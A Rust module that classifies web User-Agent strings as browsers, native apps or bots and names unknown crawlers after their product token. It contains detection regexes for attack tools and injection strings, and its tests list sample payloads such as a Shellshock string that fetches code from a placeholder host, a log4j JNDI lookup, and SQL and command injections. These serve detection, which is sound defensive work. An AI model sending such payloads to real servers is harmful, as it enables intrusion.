//! Unknown bots: the generic heuristic, and naming a crawler after its
//! product token.

use regex::bytes::{Regex, RegexBuilder};

use super::{Category, Crawler, Origin};

/// Tokens that browsers carry for compatibility; never a crawler's name.
const COMPAT: &[&str] = &[
    "mozilla",
    "compatible",
    "applewebkit",
    "khtml",
    "like",
    "gecko",
    "chrome",
    "chromium",
    "safari",
    "version",
    "mobile",
    "firefox",
    "edg",
    "edge",
    "opr",
    "opera",
    "msie",
    "trident",
    "windows",
    "linux",
    "android",
    "x11",
    "macintosh",
    "iphone",
    "ipad",
    "u",
    "wow64",
    "win64",
    "x64",
    "intel",
    "ubuntu",
    "cpu",
    "build",
    "presto",
    "webkit",
    "os",
    "unknown",
    "en",
    "mozila",
    "mozlila",
    "bulid",
    "moblie",
    "wv",
];

/// The name of a bot that sends a browser's User-Agent without being one
/// (a bare `Mozilla/5.0`, MSIE 6 claiming `Mozilla/5.0`, unbalanced
/// parentheses) and names nothing else.
pub(crate) const IMITATION: &str = "(browser imitation)";

/// The name of every User-Agent that carries an exploit payload instead
/// of a client's name: one scanner entry, however many payloads.
pub(crate) const PAYLOAD: &str = "(exploit payload in User-Agent)";

#[derive(Debug)]
pub(crate) struct Heuristic {
    attack: Regex,
    payload: Regex,
    fake_msie: Regex,
    library: Regex,
    app: Regex,
    automation: Regex,
    url: Regex,
    words: Regex,
    browser_words: Regex,
    browser: Regex,
    other_browser: Regex,
    botword: Regex,
    url_host: Regex,
    domain: Regex,
    browser_like: Regex,
    signature: Regex,
    webkit: Regex,
    webkit_browser: Regex,
}

fn re(pattern: &str) -> Regex {
    RegexBuilder::new(pattern)
        .case_insensitive(true)
        .build()
        .expect("heuristic patterns compile")
}

impl Heuristic {
    pub(crate) fn new() -> Self {
        Heuristic {
            // Exploit payloads in the UA, and attack tools that name themselves.
            attack: re(
                r"\$\{|jndi:|\(\) \{|<script|union(\s|\+|%20)+select|\.\./|/etc/passwd|havij|sqlmap|nikto|w3af|acunetix|netsparker|dirbuster|gobuster|wpscan|openvas|nessus|qualys|zmeu|morfeus|^hello,? world$|^linux gnu \(cow\)$",
            ),
            // Injection strings (command, SQL, template, log4j, shellshock,
            // path traversal, header splitting) sent as the User-Agent.
            // (Terminal escapes are not: a bot may carry them in its name,
            // and every printed name is escaped.)
            payload: re(concat!(
                r"\$\{|jndi:|\(\) ?\{|<script|<\?php|\.\./|/etc/passwd|/bin/(ba)?sh\b|cmd\.exe|",
                r"union(\s|\+|%20|/\*.*?\*/)+(all(\s|\+|%20)+)?select|\bselect\b.{1,80}\bfrom\b|",
                r"\b(print|md5|sleep|benchmark|eval|system|exec|passthru|phpinfo|base64_decode|concat|char|chr)\s*\(|",
                r"waitfor\s+delay|xp_cmdshell|^echo\s+['\x22$-]|[;|&]\s*echo\s|\bor\s+\d+\s*=\s*\d+|['\x22]\s*(or|and)\s|",
                r"\{\{.*\}\}|%0[ad]",
            )),
            // UAs no browser sends: MSIE 8 or older claiming Mozilla/5.0,
            // a Windows NT version that never existed, a Gecko without its
            // browser.
            fake_msie: re(
                r"^mozilla/5\.0 \(compatible; msie [1-8]\.|windows nt (7|8|9|1[1-9])\.\d|; rv:[\d.]+\) gecko$",
            ),
            // Native apps' HTTP stacks: people using an app, not crawlers.
            // Media players (a person listening or watching) as well.
            app: re(
                r"^dalvik/|cfnetwork/|darwin/|^fban|fbav/|instagram|^android/|okhttp/.*android|^spotify/|^outlook-|^microsoft office\b|^itunes/|^applecoremedia/|^vlc/|^nsplayer|^windows-media-player/|^quicktime|^realplayer|^stagefright/",
            ),
            library: re(
                r"^(curl|wget|grequests|[a-z-]*http[a-z-]*client|python-requests|python-urllib|python-httpx|python/|aiohttp|httpx|go-http-client|go |java/|apache-httpclient|okhttp|axios|node-fetch|undici|node/|libwww-perl|lwp::|php/|guzzlehttp|ruby|faraday|scrapy|httpie|reqwest|colly|dart/|restsharp|postmanruntime|insomnia|winhttp|mozilla/\S+ \(windows nt [\d.]+; windows powershell|powershell|jakarta|feign|http\.rb|mechanize|libcurl|typhoeus|excon|rest-client|unirest|http_request|zend_http|wordpress/|cpp-httplib|fasthttp|hackney|finch|httpclient)",
            ),
            automation: re(
                r"headlesschrome|phantomjs|puppeteer|playwright|selenium|webdriver|lighthouse|slimerjs|electron/.*\bbot\b",
            ),
            url: re(r"https?://|\+[a-z0-9-]+\.[a-z]|www\.[a-z0-9-]+\.[a-z]|@[a-z0-9-]+\.[a-z]{2,}"),
            words: re(
                r"bot|crawl|spider|spyder|fetch|scrap|slurp|archiv|indexer|harvest|scan|checker|monitor|validator|preview|probe",
            ),
            browser_words: re(r"[a-z](bot|crawler|spider|fetcher|scraper)/\d"),
            // A real browser: Mozilla/1-5 or Opera with a platform comment.
            browser: re(
                r"^(mozilla/[1-5]\.\d+|opera/\d+\.\d+) ?\((compatible; msie|compatible; konqueror|compatible; dillo|windows|macintosh|x11|linux|iphone|ipad|ipod|android|mobile|tablet|bb10|blackberry|playbook|kaios|cros|freebsd|openbsd|netbsd|symbian|series ?60|smart-?tv|playstation|nintendo|xbox|os/2|meego|maemo|pda|j2me|mtk|unknown;|beos|haiku|sunos|webos|tizen|windows ce)",
            ),
            // Browsers that do not take the `Mozilla/5.0 (platform)` shape:
            // feature phones (MIDP, WAP, NetFront, UC, Openwave), text-mode
            // and niche browsers, and old Opera and MSIE forms.
            other_browser: re(concat!(
                r"^(blackberry\d|nokia|sonyericsson|samsung-|sec-|sie-|mot-|lg-|sagem|alcatel|zte-|docomo/|j2me/|",
                r"micromax|maxx_maui|maui browser|lava\.|links[ /(]|elinks|lynx/|w3m/|netsurf/|midori/|dillo/|",
                r"arora/|konqueror/|msie \(msie|ie ?[4-9](\.\d+)?$|internet explorer( \d+(\.\d+)?)?$|",
                r"opera/\d+\.\d+ ?\(|opera \d+\.\d+ ?\()|",
                r"profile/midp|up\.browser|up\.link|netfront/|openwave|ucweb|semc-browser|opera mini/|",
                r"\(maui/|windows mobile|konqueror/|\bpresto/",
            )),
            botword: re(
                r"bot|crawl|spider|spyder|fetch|scrap|archiv|index|harvest|scan|check|monitor",
            ),
            url_host: re(r"(?:https?://(?:www\.)?|\bwww\.)([a-z0-9][a-z0-9.-]*\.[a-z]{2,})"),
            domain: re(r"^(?:www\.)?[a-z0-9][a-z0-9-]*(\.[a-z0-9-]+)*\.[a-z]{2,}$"),
            browser_like: re(
                r"^\W*(user-agent:\s*)?(mozilla|mozila|mozlila|opera|chrome|safari|msie|internet explorer|linux mozilla|gecko|webkit)",
            ),
            // Desktop Linux, where renderers run (phones' and old Macs'
            // browsers do not always say Version/: Silk, webOS, Safari 2).
            webkit: re(r"\(x11;.*applewebkit/"),
            webkit_browser: re(
                r"version/|chrome/|chromium/|crios/|fxios/|edgios/|mobile/|konqueror|midori|epiphany|arora/|nokiabrowser|browserng|omniweb|icab|shiira|rekonq|otter|falkon|qupzilla|dooble|surf/",
            ),
            // Attack tools known by a whole, short User-Agent.
            signature: re(r"^(hello,? world|linux gnu \(cow\))$"),
        }
    }

    /// A crawler with no User-Agent at all.
    pub(crate) fn unnamed(&self) -> Crawler {
        crawler(
            "(no user agent)".to_string(),
            Category::Other,
            Origin::Heuristic,
        )
    }

    /// A crawler recognised by a dataset pattern: named after the matched
    /// text when it reads as a name, else after the UA's product token.
    pub(crate) fn named_from_match(
        &self,
        ua: &[u8],
        matched: &[u8],
        category: Category,
    ) -> Crawler {
        let text = String::from_utf8_lossy(matched);
        let text = text.trim_matches(|c: char| !c.is_ascii_alphanumeric());
        let name_like = text.len() >= 2
            && text.chars().any(|c| c.is_ascii_alphabetic())
            && text
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | ' ' | '!'));
        let name = if name_like {
            text.to_string()
        } else {
            self.name_of(ua)
        };
        crawler(name, category, Origin::Dataset)
    }

    /// The generic heuristic. `None` means a browser or a native app: a
    /// human visitor. Anything else that sends a User-Agent is a bot: an
    /// exploit payload or attack tool (scanner), an HTTP library, a
    /// headless browser, a browser-like UA that names a bot or a URL, and
    /// whatever does not look like a browser at all (a bare `Mozilla/5.0`,
    /// a misspelt `Mozila/5.0`, an impossible `Mozilla/37.0`, `Hello, World`).
    pub(crate) fn classify(&self, ua: &[u8]) -> Option<Crawler> {
        let category = if self.attack.is_match(ua) {
            Category::Scanner
        } else if self.library.is_match(ua) {
            Category::Library
        } else if self.automation.is_match(ua) {
            Category::Automation
        } else if self.browser.is_match(ua) {
            // A browser-like UA is a bot only if it says so plainly: a URL,
            // or a "SomethingBot/1.0" product token (so a "CUBOT" phone is
            // not a crawler).
            if self.url.is_match(ua)
                || self.browser_words.is_match(ua)
                || self.impossible(ua)
                || self.bare_webkit(ua)
            {
                Category::Other
            } else {
                return None;
            }
        } else if (self.app.is_match(ua) || self.other_browser.is_match(ua))
            && !self.url.is_match(ua)
            && !self.words.is_match(ua)
        {
            return None;
        } else {
            Category::Other
        };
        let name = if category == Category::Scanner && self.is_payload(ua) {
            PAYLOAD.to_string()
        } else if category == Category::Scanner && self.signature.is_match(ua) {
            String::from_utf8_lossy(ua).into_owned()
        } else {
            self.name_of(ua)
        };
        Some(crawler(name, category, Origin::Heuristic))
    }

    /// Does the User-Agent carry an exploit payload (an injection string,
    /// or no letter at all: `1'`, `"`, `-1`) rather than a client's name?
    pub(crate) fn is_payload(&self, ua: &[u8]) -> bool {
        !ua.iter().any(u8::is_ascii_alphabetic) || self.payload.is_match(ua)
    }

    /// The scanner entry every payload is reported as.
    pub(crate) fn payload(&self) -> Crawler {
        crawler(PAYLOAD.to_string(), Category::Scanner, Origin::Heuristic)
    }

    /// A bot that sent a browser's User-Agent in a way no browser does (a
    /// pasted `User-Agent:` header, quotes around the value).
    pub(crate) fn imitation(&self) -> Crawler {
        crawler(IMITATION.to_string(), Category::Other, Origin::Heuristic)
    }

    /// A desktop Linux WebKit UA that names no browser (`Chrome/`,
    /// `Version/`, Konqueror, Midori, Epiphany, ...): `AppleWebKit ...
    /// Qt/4.7 Safari` or `... wpif Safari` is a page renderer (thumbnails,
    /// PDFs) run by a service.
    fn bare_webkit(&self, ua: &[u8]) -> bool {
        self.webkit.is_match(ua) && !self.webkit_browser.is_match(ua)
    }

    /// A browser-like UA that no browser sends: MSIE 8 or older never said
    /// `Mozilla/5.0`, and a real UA's parentheses balance.
    fn impossible(&self, ua: &[u8]) -> bool {
        let open = ua.iter().filter(|&&b| b == b'(').count();
        let close = ua.iter().filter(|&&b| b == b')').count();
        open != close || self.fake_msie.is_match(ua)
    }

    /// The crawler's first product token: the first UA part (a product
    /// `name/version`, or an item of a parenthesised comment) that reads as a
    /// bot; else the first product outside comments that is not a browser
    /// compatibility token (`Mozilla`, `AppleWebKit`, ...); else the first
    /// `name/version` item inside a comment; else the first word.
    pub(crate) fn name_of(&self, ua: &[u8]) -> String {
        let ua = String::from_utf8_lossy(ua);
        // (text, inside a comment)
        let mut parts: Vec<(&str, bool)> = Vec::new();
        let mut depth = 0usize;
        let mut start = 0usize;
        for (i, c) in ua.char_indices() {
            let split = match c {
                '(' | ')' => true,
                ';' | ',' => depth > 0,
                c if c.is_whitespace() => true,
                _ => false,
            };
            if split {
                parts.push((&ua[start..i], depth > 0));
                start = i + c.len_utf8();
                match c {
                    '(' => depth += 1,
                    ')' => depth = depth.saturating_sub(1),
                    _ => {}
                }
            }
        }
        parts.push((&ua[start..], depth > 0));
        let token = |part: &str| -> Option<String> {
            let part = part.trim().trim_start_matches('+');
            let lower = part.to_ascii_lowercase();
            if part.is_empty()
                || lower.starts_with("http")
                || lower.starts_with("www.")
                || part.contains('@')
            {
                return None;
            }
            let name = part.split('/').next().unwrap_or("").trim();
            let name = name.trim_matches(|c: char| !c.is_ascii_alphanumeric());
            (!name.is_empty()).then(|| name.to_string())
        };
        // A name must read as one: a letter in it, no `rv:11.0`, no
        // browser compatibility or platform word.
        let is_compat = |t: &str| {
            COMPAT.contains(&t.to_ascii_lowercase().as_str())
                || !t.bytes().any(|b| b.is_ascii_alphabetic())
                || t.contains([':', '=', '&'])
        };
        // A word that says what it is, not who: a domain the UA names is
        // the better name (`ETI SEO bot - www.seo.eti.pw`).
        let generic = |t: &str| {
            matches!(
                t.to_ascii_lowercase().as_str(),
                "bot" | "robot" | "crawler" | "spider" | "scanner" | "fetch" | "fetcher" | "agent"
            )
        };
        let url_host = || {
            self.url_host
                .captures(ua.as_bytes())
                .and_then(|c| c.get(1))
                .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
        };
        // (token, inside a comment, had a version)
        let candidates: Vec<(String, bool, bool)> = parts
            .iter()
            .filter_map(|(p, inside)| token(p).map(|t| (t, *inside, p.contains('/'))))
            .collect();
        let specific = candidates
            .iter()
            .any(|(t, _, _)| self.botword.is_match(t.as_bytes()) && !generic(t));
        if !specific && candidates.iter().any(|(t, _, _)| generic(t)) {
            if let Some(host) = url_host() {
                return host;
            }
        }
        candidates
            .iter()
            .find(|(t, _, _)| self.botword.is_match(t.as_bytes()) && !generic(t))
            .or_else(|| {
                candidates
                    .iter()
                    .find(|(t, inside, _)| !inside && !is_compat(t))
            })
            .or_else(|| {
                candidates
                    .iter()
                    .find(|(t, inside, slash)| *inside && *slash && !is_compat(t))
            })
            .or_else(|| {
                // `(compatible; Dataprovider.com)`: a domain names the bot.
                candidates.iter().find(|(t, inside, _)| {
                    *inside && !is_compat(t) && self.domain.is_match(t.as_bytes())
                })
            })
            .map(|(t, _, _)| t.clone())
            .or_else(|| {
                // Only a URL names it: `... Safari/537.36 (https://shrinktheweb.com)`.
                url_host()
            })
            .or_else(|| {
                let first = candidates.first()?;
                // Nothing but browser words: a browser imitation (if it
                // starts like a browser; else nothing names it).
                Some(if !is_compat(&first.0) {
                    first.0.clone()
                } else if self.browser_like.is_match(ua.as_bytes()) {
                    IMITATION.to_string()
                } else {
                    "(unnamed bot)".to_string()
                })
            })
            .unwrap_or_else(|| "(unnamed bot)".to_string())
    }
}

fn crawler(name: String, category: Category, origin: Origin) -> Crawler {
    let token = crate::robots::product_token(&name);
    let tokens = if token.is_empty() {
        vec![]
    } else {
        vec![token.to_string()]
    };
    let meta_names = tokens.iter().map(|t| t.to_ascii_lowercase()).collect();
    Crawler {
        name: name.into(),
        operator: None,
        category,
        tokens,
        meta_names,
        engine: None,
        ip_ranges: Vec::new(),
        obeys_global: true,
        ignores_crawl_delay: false,
        user_triggered: false,
        policy_source: None,
        self_paths: Vec::new(),
        origin,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_after_the_product_token() {
        let h = Heuristic::new();
        let name = |ua: &str| h.name_of(ua.as_bytes());
        assert_eq!(
            name("Mozilla/5.0 (compatible; SomeBot/1.2; +http://some.example/bot)"),
            "SomeBot"
        );
        assert_eq!(name("python-requests/2.31.0"), "python-requests");
        assert_eq!(name("MetaURI API/2.0 +metauri.com"), "MetaURI");
        assert_eq!(
            name("Mozilla/5.0 (X11; Linux x86_64) Frobnicator/3.1"),
            "Frobnicator"
        );
        assert_eq!(name("Scanbot"), "Scanbot");
        assert_eq!(name("Mozilla/5.0 zgrab/0.x"), "zgrab");
        assert_eq!(name("(https://example.com)"), "example.com");
        assert_eq!(name("()"), "(unnamed bot)");
    }

    #[test]
    fn generic_heuristic() {
        let h = Heuristic::new();
        let cat = |ua: &str| {
            h.classify(ua.as_bytes())
                .map(|c| (c.name.to_string(), c.category))
        };
        assert_eq!(cat("curl/8.4.0"), Some(("curl".into(), Category::Library)));
        assert_eq!(
            cat("Go-http-client/1.1"),
            Some(("Go-http-client".into(), Category::Library))
        );
        assert_eq!(
            cat(
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0 Safari/537.36"
            ),
            Some(("HeadlessChrome".into(), Category::Automation))
        );
        assert_eq!(
            cat("Mozilla/5.0 (compatible; NewCrawler/1.0; +https://new.example/bot)")
                .unwrap()
                .0,
            "NewCrawler"
        );
        assert_eq!(
            cat("SuperFetcher 2000"),
            Some(("SuperFetcher".into(), Category::Other))
        );
        assert_eq!(cat("Mozila/5.0").unwrap().1, Category::Other);
        assert_eq!(cat("Mozilla/5.0").unwrap().1, Category::Other);
        assert_eq!(
            cat("Mozilla/37.0.2 (compatible; MSIE 6.0; Windows NT 5.1; SV1)")
                .unwrap()
                .1,
            Category::Other
        );
        assert_eq!(
            cat("Hello, World"),
            Some(("Hello, World".into(), Category::Scanner))
        );
        assert_eq!(cat("ETI SEO bot - www.seo.eti.pw").unwrap().0, "seo.eti.pw");
        assert_eq!(cat("&as_qdr=all").unwrap().0, "(unnamed bot)");
        assert_eq!(
            cat("${jndi:ldap://x.example:1389/a}"),
            Some(("(exploit payload in User-Agent)".into(), Category::Scanner))
        );
        assert_eq!(
            cat("Mozilla/5.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)")
                .unwrap()
                .1,
            Category::Other
        );
        assert_eq!(cat("Mozilla/5.0 (Windows; U; Windows NT 6.0;en-US; rv:1.9.2) Gecko/20100115 Firefox/3.6)").unwrap().1, Category::Other);
        assert_eq!(
            cat("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1) Havij")
                .unwrap()
                .1,
            Category::Scanner
        );
        assert_eq!(
            cat("Google-HTTP-Java-Client/1.17.0-rc (gzip)").unwrap().1,
            Category::Library
        );
        // Native apps and browsers are people, including a phone whose model contains "bot".
        assert_eq!(
            cat("Dalvik/2.1.0 (Linux; U; Android 5.1.1; SM-J320FN Build/LMY47V)"),
            None
        );
        assert_eq!(cat("MyApp/3.2 CFNetwork/1408.0.4 Darwin/22.5.0"), None);
        assert_eq!(
            cat("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"),
            None
        );
        assert_eq!(
            cat(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
            ),
            None
        );
        assert_eq!(
            cat(
                "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0 Mobile Safari/537.36"
            ),
            None
        );
        assert_eq!(
            cat(
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"
            ),
            None
        );
    }

    #[test]
    fn browsers_of_every_age_and_form_are_people() {
        let h = Heuristic::new();
        for ua in [
            "SonyEricssonK310iv/R4DA Browser/NetFront/3.3 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Link/6.3.1.13.0",
            "BlackBerry8300/4.2.2 Profile/MIDP-2.0 Configuration/CLDC-1.1 VendorID/107 UP.Link/6.2.3.15.0",
            "NokiaN73-1/3.0649.0.0.1 Series60/3.0 Profile/MIDP2.0 Configuration/CLDC-1.1",
            "iTunes/9.0.2 (Windows; N)",
            "Mozilla/5.0 (compatible; Konqueror/3.2; Linux 2.6.2)",
            "Links (2.1pre15; Linux 2.4.26 i686; 158x61)",
            "ELinks/0.9.3 (textmode; Linux 2.6.9-kanotix-8 i686; 127x41)",
            "w3m/0.5.1",
            "Lynx/2.8.7rel.2 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.0.1f",
            "Mozilla/4.0 (PDA; PalmOS/sony/model prmr/Revision:1.1.54 (en)) NetFront/3.0",
            "IE5",
            "Mozilla/5.0 (OS/2; Warp 4.5; rv:31.0) Gecko/20100101 Firefox/31.0",
            "MSIE (MSIE 6.0; X11; Linux; i686) Opera 7.23",
            "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/34.1244; U; en) Presto/2.8.119 Version/11.10",
            "Opera/9.64(Windows NT 5.1; U; en) Presto/2.1.1",
            "Mozilla/5.0 (MeeGo; NokiaN950-00/00) AppleWebKit/534.13 (KHTML, like Gecko) NokiaBrowser/8.5.0 Mobile Safari/534.13",
            "J2ME/UCWEB7.3.1.56/139/999",
            "DoCoMo/2.0 SH901iC(c100;TB;W24H12)",
            "Mozilla/4.0 (compatible; Dillo 3.0)",
            "Microsoft Office Protocol Discovery",
            // The Google app on Android and iOS.
            "Mozilla/5.0 (Linux; Android 6.0.1; SM-G900V Build/MMB29M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/52.0.2743.98 Mobile Safari/537.36 GSA/6.2.34.21.arm",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 7_0_4 like Mac OS X) AppleWebKit/536.26 (KHTML, like Gecko) GSA/3.2.1.25875 Mobile/11B554a Safari/8536.25",
        ] {
            assert_eq!(
                h.classify(ua.as_bytes()).map(|c| c.name.to_string()),
                None,
                "{ua}"
            );
        }
    }

    #[test]
    fn a_bot_is_named_by_what_names_it_not_by_browser_words() {
        let h = Heuristic::new();
        let name = |ua: &str| h.classify(ua.as_bytes()).unwrap().name.to_string();
        assert_eq!(name("Mozilla/5.0"), IMITATION);
        assert_eq!(
            name("Mozilla/5.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4325)"),
            IMITATION
        );
        assert_eq!(name("Opera 9.6"), IMITATION);
        assert_eq!(
            name("Mozilla/5.0 (Windows; U; MSIE 9.0; Windows NT 9.0; en-US)"),
            IMITATION
        );
        assert_eq!(
            name("Mozilla/5.0 (X11; U; Linux x86_64; en-US; rv:1.9.1.16) Gecko"),
            IMITATION
        );
        assert_eq!(
            name("Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36"),
            IMITATION
        );
        assert_eq!(name("Chrome/54.0 (Windows NT 10.0)"), IMITATION);
        assert_eq!(
            name("Mozilla/5.0 (compatible; Dataprovider.com)"),
            "Dataprovider.com"
        );
        assert_eq!(
            name(
                "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.79 Safari/537.36 (https://shrinktheweb.com)"
            ),
            "shrinktheweb.com"
        );
    }

    #[test]
    fn payloads_are_one_scanner_whatever_they_inject() {
        let h = Heuristic::new();
        for ua in [
            "1",
            "1\"",
            "\"",
            "-1'",
            "print(md5(31337))",
            "echo 'x'; id",
            "() { :; }; /bin/bash -c \"wget http://x.example/a\"",
            "' or 1=1--",
            "${jndi:ldap://x.example/a}",
            "1 UNION ALL SELECT NULL,NULL--",
            "{{7*7}}",
        ] {
            assert!(h.is_payload(ua.as_bytes()), "{ua}");
        }
        for ua in [
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Echoboxbot/1.0",
            "curl/8.4.0",
            "Feedbin - 1 subscribers",
            "Echo Bot/1.0 (+https://echo.example)",
        ] {
            assert!(!h.is_payload(ua.as_bytes()), "{ua}");
        }
    }
}
